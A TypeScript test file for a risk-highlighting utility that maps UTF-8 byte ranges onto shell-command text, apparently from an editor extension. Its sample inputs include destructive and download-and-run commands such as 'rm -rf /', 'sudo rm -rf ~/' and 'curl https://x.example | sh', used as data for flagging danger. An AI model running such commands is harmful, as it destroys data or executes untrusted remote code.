import assert from 'node:assert/strict';
import { test } from 'node:test';
import { byteToIndex, segmentByRisk, utf8ByteLength } from '../src/webview/byteRange';

// Each row: text, byte offset, rounding, expected UTF-16 index.
const byteRows: [string, number, 'down' | 'up', number][] = [
	['rm -rf /', 0, 'down', 0],
	['rm -rf /', 3, 'down', 3],
	['rm -rf /', 8, 'down', 8],
	['rm -rf /', 99, 'down', 8],
	['rm -rf /', -4, 'down', 0],
	['rm -rf /', Number.NaN, 'up', 0],
	['é rm', 2, 'down', 1], // é is 2 bytes, 1 code unit
	['é rm', 1, 'down', 0], // inside é
	['é rm', 1, 'up', 1],
	['日本 rm', 6, 'down', 2], // 3 bytes each
	['日本 rm', 4, 'up', 2],
	['日本 rm', 4, 'down', 1],
	['😀 rm', 4, 'down', 2], // 4 bytes, a surrogate pair
	['😀 rm', 2, 'down', 0],
	['😀 rm', 2, 'up', 2], // never splits a surrogate pair
	['😀 rm', 5, 'down', 3],
];

test('byteToIndex converts UTF-8 byte offsets to string indices', () => {
	for (const [text, off, round, want] of byteRows) {
		assert.equal(byteToIndex(text, off, round), want, `${JSON.stringify(text)} @${off} ${round}`);
	}
});

test('utf8ByteLength matches Buffer', () => {
	for (const s of ['', 'abc', 'é', '日本語', '😀x', 'a\u0000b', '\u{10ffff}']) {
		assert.equal(utf8ByteLength(s), Buffer.byteLength(s, 'utf8'), s);
	}
});

test('segmentByRisk underlines exactly the risky characters after non-ASCII text', () => {
	const cmd = 'echo "héllo" && curl https://x.example | sh';
	const start = Buffer.byteLength('echo "héllo" && ', 'utf8');
	const end = Buffer.byteLength(cmd, 'utf8');
	const segs = segmentByRisk(cmd, [{ kind: 'network', reason: 'downloads and runs', start, end }]);
	assert.deepEqual(
		segs.map((s) => [s.text, s.risks.map((r) => r.kind)]),
		[
			['echo "héllo" && ', []],
			['curl https://x.example | sh', ['network']],
		],
	);
});

test('segmentByRisk keeps the text whole and handles overlaps, reversed and out-of-range spans', () => {
	const cmd = 'sudo rm -rf ~/😀';
	const b = (s: string): number => Buffer.byteLength(s, 'utf8');
	const segs = segmentByRisk(cmd, [
		{ kind: 'privilege', reason: 'root', start: 0, end: b('sudo') },
		{ kind: 'destructive', reason: 'deletes', start: b(cmd) + 50, end: b('sudo ') }, // reversed, past the end
		{ kind: 'x', reason: '', start: 3, end: 3 }, // empty: ignored
	]);
	assert.equal(segs.map((s) => s.text).join(''), cmd);
	assert.deepEqual(
		segs.map((s) => [s.text, s.risks.map((r) => r.kind)]),
		[
			['sudo', ['privilege']],
			[' ', []],
			['rm -rf ~/😀', ['destructive']],
		],
	);
});

test('segmentByRisk with no risks returns the text as one plain segment', () => {
	assert.deepEqual(segmentByRisk('ls', undefined), [{ text: 'ls', risks: [] }]);
	assert.deepEqual(segmentByRisk('', []), [{ text: '', risks: [] }]);
});

test('segmentByRisk never loses or duplicates characters (random spans)', () => {
	const alphabet = ['a', ' ', 'é', '日', '😀', '|', '\n'];
	let seed = 7;
	const rnd = (n: number): number => {
		seed = (seed * 1103515245 + 12345) & 0x7fffffff;
		return seed % n;
	};
	for (let iter = 0; iter < 500; iter++) {
		let text = '';
		for (let i = rnd(12); i > 0; i--) text += alphabet[rnd(alphabet.length)];
		const max = Buffer.byteLength(text) + 3;
		const risks = Array.from({ length: rnd(4) }, () => ({ kind: 'k', reason: 'r', start: rnd(max + 2) - 1, end: rnd(max + 2) - 1 }));
		const segs = segmentByRisk(text, risks);
		assert.equal(segs.map((s) => s.text).join(''), text);
		for (const s of segs) assert.ok(!/^[\udc00-\udfff]/.test(s.text), 'segment starts inside a surrogate pair');
	}
});
